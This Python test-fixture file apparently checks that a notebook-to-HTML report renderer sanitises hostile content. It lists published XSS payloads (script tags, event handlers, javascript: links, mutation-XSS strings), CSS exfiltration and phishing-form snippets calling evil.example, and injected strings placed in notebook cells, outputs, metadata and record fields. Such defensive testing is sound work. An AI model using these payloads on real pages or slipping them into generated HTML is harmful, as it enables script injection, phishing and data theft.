# ruff: noqa: E501  (an attack is written as it was published)
"""Published ways of running a script, sending data away or redrawing a page, by name.

Sources: OWASP XSS Filter Evasion Cheat Sheet; PortSwigger's XSS cheat sheet; the mutation XSS of Heiderich et al. (2013) and of the
DOMPurify and ammonia advisories; and nbconvert's own: CVE-2021-32862 and GHSA-9jmq-rx5f-8jwq list raw cells, HTML, SVG, Markdown,
attachments, metadata, LaTeX, error and stream outputs, widget state and MIME keys, each of which is here.
"""

from tests.reports.conftest import code, declaration, display, error, md, raw, stream

SVG = "http://www.w3.org/2000/svg"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# HTML that is tried in a Markdown cell, in a text/html output and in a text/markdown output
HTML = {
    "script": "<script>alert(1)</script>",
    "script, upper case and broken": "<ScRiPt\n>alert(1)</sCripT\t>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script never closed": "<script>alert(1)",
    "script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script as a module": '<script type="module">import("https://evil.example/x.js")</script>',
    "image with onerror": "<img src=x onerror=alert(1)>",
    "image with a slash for a space": "<img/src=x/onerror=alert(1)>",
    "image with a handler in backticks": "<img src=`x` onerror=`alert(1)`>",
    "image with onload and good data": f'<img src="data:image/png;base64,{PIXEL}" onload="alert(1)">',
    "image with srcset": '<img srcset="https://evil.example/x.png 2x" alt="a">',
    "image from elsewhere": '<img src="https://evil.example/pixel.gif?who=me" alt="tracked">',
    "image as a data page": '<img src="data:text/html,<script>alert(1)</script>">',
    "handler without quotes": "<b onmouseover=alert(1)>hover</b>",
    "handler after a null byte": "<b on\x00click=alert(1)>x</b>",
    "handler on a details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler with autofocus": "<input autofocus onfocus=alert(1)>",
    "handler of an animation": "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "handler on a video source": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "handler on body": "<body onload=alert(1)><p>x</p></body>",
    "handler on a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "link javascript": '<a href="javascript:alert(1)">x</a>',
    "link javascript in entities": '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    "link javascript with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link javascript with a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "link vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link data page": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link file": '<a href="file:///etc/passwd">x</a>',
    "link with a ping": '<a href="https://example.org" ping="https://evil.example">x</a>',
    "link without protocol": '<a href="//evil.example/x">x</a>',
    "link area in a map": '<map name=m><area href="javascript:alert(1)"></map>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "applet": '<applet code="x" codebase="https://evil.example"></applet>',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "button with formaction": '<button formaction="javascript:alert(1)">x</button>',
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "link style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "style exfiltration": '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
    "style redraws the page": "<style>body{display:none} .status{visibility:hidden}</style>",
    "style under a styler's name": "<style>#T_1, body { color: transparent } #T_1 {background:url(//evil.example)} "
    "#T_1 ~ * {display:none}</style><table id=T_1><tr><td>x</td></tr></table>",
    "style expression": '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)">x</p>',
    "style overlay": '<div style="position:fixed;inset:0;z-index:99;background:white">All is well</div>',
    "style with escapes": '<p style="background:u\\72l(https://evil.example)">x</p>',
    "style closing itself": "<style>#T_1{color:red}</style></style><script>alert(1)</script><style>",
    "svg onload": "<svg onload=alert(1)></svg>",
    "svg script": f'<svg xmlns="{SVG}"><script>alert(1)</script></svg>',
    "svg foreign object": f'<svg xmlns="{SVG}"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'
    "</foreignObject></svg>",
    "svg animated link": f'<svg xmlns="{SVG}"><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use of another document": f'<svg xmlns="{SVG}"><use href="https://evil.example/x.svg#a"/></svg>',
    "svg image from elsewhere": f'<svg xmlns="{SVG}"><image href="https://evil.example/x.png"/></svg>',
    "mutation svg and style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mutation svg p style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation math mtext table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation math annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "mutation math maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "mutation form in form": "<form><div></form><form><style></form><img src onerror=alert(1)></style></div>",
    "mutation noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation template": "<template><img src=x onerror=alert(1)></template>",
    "mutation xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mutation textarea and title": "<textarea><title></textarea><img src=x onerror=alert(1)></title></textarea>",
    "mutation select": "<select><option><style></option></select><img src=x onerror=alert(1)></style></option></select>",
    "mutation comment": "<!--><img src=x onerror=alert(1)>--> <!--[if IE]><script>alert(1)</script><![endif]-->",
    "mutation cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mutation plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "place of a formula, forged": '<esa-math n="0"></esa-math><esa-math n="'
    + "9" * 5000
    + '"></esa-math><p title=\'<esa-math n="0"></esa-math>\'>x</p>'
    '<img alt="<math><mi>&quot; onerror=alert(1) x=&quot;</mi></math>" src=x>',
    "id of ours": '<p id="result-share">x</p><a name="main">x</a><img name="getElementById" src=x>',
    "popover of ours": '<button popovertarget="result-share">x</button><div popover id="result-other">x</div>',
    "class of ours": '<p class="status succeeded wrong from">Succeeded</p>',
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "portal and dialog": "<dialog open><portal src='javascript:alert(1)'></portal></dialog>",
}

# Markdown of its own
MARKDOWN = {
    "markdown javascript link": "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z]: javascript:alert(1)\n\n[z]",
    "markdown javascript autolink": "<javascript:alert(1)> <JaVaScRiPt:alert(1)>",
    "markdown image with a handler": '![x](x "onerror=alert(1)") ![" onerror="alert(1)](y)',
    "markdown image title": "![a](https://evil.example/x.png 'a\" onload=\"alert(1)')",
    "markdown code fence": "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "markdown language of a fence": '```x" onmouseover="alert(1)\ncode\n```',
    "markdown reference": '[a]: https://example.org "x\\" onclick=\\"alert(1)"\n\n[a]',
    "markdown heading": '# <img src=x onerror=alert(1)> heading\n\n## "><script>alert(1)</script>',
    "markdown table": "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|c|",
    "markdown local link": '[x](#"><script>alert(1)</script>)',
    "latex text": "$\\text{<img src=x onerror=alert(1)>}$ and $$\\text{</math><script>alert(1)</script>}$$",
    "latex link": "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "latex style and class": "$\\style{background:url(//evil.example)}{x} \\class{status}{y} \\cssId{result-share}{z}$",
    "latex unicode": "$\\unicode{60}script\\unicode{62}$ $<script>alert(1)</script>$",
}

X = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'`"

# outputs and cells of every type that nbconvert has been attacked through
CELLS = {
    "raw cell": [raw(X)],
    "raw cell as html": [{**raw(X), "metadata": {"raw_mimetype": "text/html", "format": "text/html"}}],
    "source of a code cell": [code(f"x = '''{X}'''  # </code></pre>{X}")],
    "unknown cell type": [{"cell_type": f"x{X}", "source": X, "metadata": {}}],
    "attachment svg": [
        md(
            "![x](attachment:x.svg)",
            attachments={"x.svg": {"image/svg+xml": f'<svg xmlns="{SVG}" onload="alert(1)"/>'}},
        )
    ],
    "attachment name": [md(f"![x](attachment:{X})", attachments={X: {"image/png": PIXEL}})],
    "attachment type": [
        md(
            "![x](attachment:x)",
            attachments={"x": {'text/html" onerror="alert(1)': X, "image/png": f'{PIXEL}" onerror="alert(1)'}},
        )
    ],
    "output svg with script": [
        code(
            "x",
            display(
                image__svgxml=X,
                data={
                    "image/svg+xml": f'<svg xmlns="{SVG}"><script>alert(1)</script>'
                    '<rect onclick="alert(1)" width="4" height="4"/></svg>'
                },
            ),
        )
    ],
    "output svg with entities": [
        code(
            "x",
            display(
                data={
                    "image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
                    f'<svg xmlns="{SVG}"><text>&b;</text></svg>'
                }
            ),
        )
    ],
    "output svg that is html": [code("x", display(data={"image/svg+xml": f"<html>{X}</html>"}))],
    "output svg in style": [
        code(
            "x",
            display(
                data={
                    "image/svg+xml": f'<svg xmlns="{SVG}"><style>@import url(//evil.example);</style>'
                    '<rect style="fill:url(https://evil.example/x)"/></svg>'
                }
            ),
        )
    ],
    "output png that is html": [code("x", display(data={"image/png": 'x" onerror="alert(1)'}))],
    "output jpeg with a quote": [code("x", display(data={"image/jpeg": f"/9j/{X}"}))],
    "output javascript": [code("x", display(data={"application/javascript": "alert(1)"}))],
    "output javascript, other spelling": [
        code("x", display(data={"text/javascript": "alert(1)", "text/ecmascript": "alert(1)"}))
    ],
    "output latex": [code("x", display(data={"text/latex": f"$\\text{{{X}}}$"}))],
    "output plain": [code("x", display(data={"text/plain": X}))],
    "output json": [code("x", display(data={"application/json": {X: [X]}}))],
    "output of an unknown mime type": [code("x", display(data={f'text/x"><script>alert(1)</script>{X}': X}))],
    "output widget": [code("x", display(data={"application/vnd.jupyter.widget-view+json": {"model_id": X}}))],
    "output bokeh and plotly": [
        code(
            "x",
            display(data={"application/vnd.plotly.v1+json": {"data": X}, "application/vnd.bokehjs_exec.v0+json": X}),
        )
    ],
    "output mermaid": [code("x", display(data={"text/vnd.mermaid": f"graph TD; A[{X}]"}))],
    "output html as lines": [code("x", display(data={"text/html": ["<scr", "ipt>alert(1)</scr", "ipt>"]}))],
    "output metadata": [
        code(
            "x",
            {
                **display(data={"image/png": PIXEL}),
                "metadata": {"image/png": {"width": '1" onload="alert(1)', "alt": X}},
            },
        )
    ],
    "execute result": [
        code("x", {"output_type": "execute_result", "execution_count": X, "metadata": {}, "data": {"text/html": X}})
    ],
    "stream": [code("x", stream(X))],
    "stream name": [code("x", stream("text", name=X))],
    "stream folded": [code("x", stream((X + "\n") * 100))],
    "ansi colours around a tag": [code("x", stream(f"\x1b[31m<scr\x1b[0mipt>alert(1)</scr\x1b[1mipt>{X}"))],
    "ansi link": [code("x", stream(f"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07\x1b[38;2;1;2;3m{X}"))],
    "ansi parameter": [code("x", stream('\x1b[38;2;0"onclick=alert(1);0;0mx\x1b[0m'))],
    "error name and value": [code("x", error(X, X))],
    "error traceback": [code("x", error("E", "e", f"\x1b[31m{X}\x1b[0m", X))],
    "cell metadata": [
        {**code("x"), "metadata": {"tags": [X], "collapsed": X}, "id": f'x"><script>alert(1)</script>{X}'}
    ],
    "declared label and unit": [
        code("x", declaration(kind="result", name="share", label=X, value=1.5, unit=X, ci=[X, X], why=X))
    ],
    "declared name": [
        code("x", declaration(kind="result", name=f'x"><script>alert(1)</script>{X}', label="x", value=1))
    ],
    "declared value": [code("x", declaration(kind="result", name="share", label="x", value=X, unit="%"))],
    "declared value as a list": [
        code("x", declaration(kind="result", name="share", label=[X], value=[X], ci=X, digits=X, why=[X]))
    ],
    "declared measurement": [
        code("x", declaration(kind="measurement", name="share", label=X, value=X, spread=X, unit=X))
    ],
    "declared caption and alt": [
        code(
            "x",
            declaration(
                kind="figure",
                name="f",
                caption=X,
                alt=X,
                _svg=f'<svg xmlns="{SVG}" onload="alert(1)"><title>{"x"}</title></svg>',
            ),
        )
    ],
    "declared figure without drawing": [code("x", declaration(kind="figure", name="f", caption=X, alt=X, _svg=X))],
    "declared table": [
        code(
            "x",
            declaration(
                kind="table",
                name="t",
                caption=X,
                n_rows=9,
                rows=[[X, 1], [2, X]],
                columns=[
                    {"name": X, "unit": X, "numeric": False},
                    {"name": X, "unit": X, "numeric": True, "digits": X},
                ],
            ),
        )
    ],
    "declared answer": [code("x", declaration(kind="answer", text=X))],
    "declared missing": [code("x", declaration(kind="missing", what=X, why=X))],
    "declared kind": [code("x", declaration(kind=X, name=X))],
}

# fields of the record
RECORD = {
    "record title, question, audience": {"notebook": {"path": X, "title": X, "question": X, "audience": X}},
    "record reason": {"status": "failed", "reason": {"what": X + "`<b onclick=alert(1)>`", "where": X, "do": X}},
    "record status": {"status": X},
    "record parameters": {"parameters": [{"name": X, "value": X, "type": X, "origin": X, "help": X}]},
    "record inputs and outputs": {
        "inputs": [{"name": X, "kind": X, "path": X, "sha256": X * 9, "bytes": X}],
        "outputs": [{"name": X, "path": X}],
    },
    "record git": {"git": {"commit": X, "dirty": None, "why": X}},
    "record command": {"command": X},
    "record environment": {
        "environment": {
            "python": X,
            "platform": X,
            "cpus": X,
            "lock_sha256": X,
            "differs_from_lock": [X],
            "variables": {X: X},
        }
    },
    "record modules and settings": {"code": {"cells": [], "modules": {X: X}}, "settings": {X: X}},
    "record warnings and times": {"warnings": [X], "started": X, "duration_s": X, "key": X, "peak_memory_bytes": X},
}
